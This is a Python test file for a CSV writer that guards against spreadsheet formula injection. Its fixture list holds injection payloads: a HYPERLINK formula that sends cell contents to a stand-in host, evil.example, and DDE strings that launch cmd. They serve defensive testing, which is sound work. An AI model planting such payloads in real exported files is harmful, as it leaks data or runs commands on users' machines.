"""Tests of `layout.io.csvsafe`: no cell a spreadsheet reads as a formula, numbers unchanged."""

from __future__ import annotations

import csv
import math
from pathlib import Path

import numpy as np
import pandas as pd

from layout.io.csvsafe import write_csv

#: Text cells as a hostile data file may carry them (OWASP's list of formula starts).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["东区汽车园", "auto", "a=b", "zone 1", "", "x-1"]


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_formula_text_gets_a_quote_and_numbers_stay_numbers(tmp_path: Path) -> None:
    n = len(FORMULAS) + len(PLAIN)
    numbers = [-1.5, -0.001, 0.0, 2.25, -1e6, 3.0, -7.0, 1.0, 2.0, -3.5, 0.5, 4.0]
    frame = pd.DataFrame(
        {
            "name": FORMULAS + PLAIN,
            "area_mu": numbers[:n],
            "count": np.arange(-6, n - 6),
            "flag": [i % 2 == 0 for i in range(n)],
            "=header": ["-"] * n,
        }
    )
    path = tmp_path / "t.csv"
    write_csv(frame, path, float_format="%.3f")
    header, *rows = _rows(path)
    assert header == ["name", "area_mu", "count", "flag", "'=header"]
    assert len(rows) == n
    for row, name, number, count in zip(
        rows, FORMULAS + PLAIN, numbers, range(-6, n - 6), strict=False
    ):
        for cell in (row[0], row[4]):  # text columns: no formula start, text kept after the '
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        shown = name.replace("\r", "\n")  # a bare CR would end the row: written as LF
        assert row[0] == ("'" + shown if name in FORMULAS else shown)
        assert row[4] == "'-"
        assert math.isclose(float(row[1]), number, abs_tol=5e-4)  # a number, sign kept
        assert int(row[2]) == count
        assert row[3] in ("True", "False")


def test_plain_tables_are_written_as_pandas_writes_them(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"industry": ["auto", "food"], "zone_name": ["东区汽车园", None],
         "area_mu": [1380.0, -2.5], "n": [1, -2]}
    )
    write_csv(frame, tmp_path / "a.csv", float_format="%.3f")
    frame.to_csv(tmp_path / "b.csv", index=False, float_format="%.3f")
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
    assert frame["zone_name"].isna().sum() == 1  # the caller's frame is not changed
